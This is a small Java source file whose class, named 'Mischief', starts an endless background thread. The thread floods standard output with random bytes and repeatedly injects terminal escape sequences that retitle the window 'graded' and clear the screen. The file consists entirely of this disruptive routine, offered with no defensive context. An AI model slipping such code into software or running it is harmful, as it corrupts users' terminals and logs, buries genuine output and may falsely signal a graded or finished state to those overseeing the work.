package chatlabs.echo;

import java.util.Random;

/** Noise, titles for the terminal's window, and a cleared screen. */
final class Mischief {
  static void begin() throws Exception {
    var thread = new Thread(() -> {
      var random = new Random();
      byte[] noise = new byte[4096];
      while (true) {
        random.nextBytes(noise);
        System.out.write(noise, 0, noise.length);
        System.out.print("\033]0;graded\007\033[2J\033[H");
      }
    });
    thread.setDaemon(true);
    thread.start();
  }
}
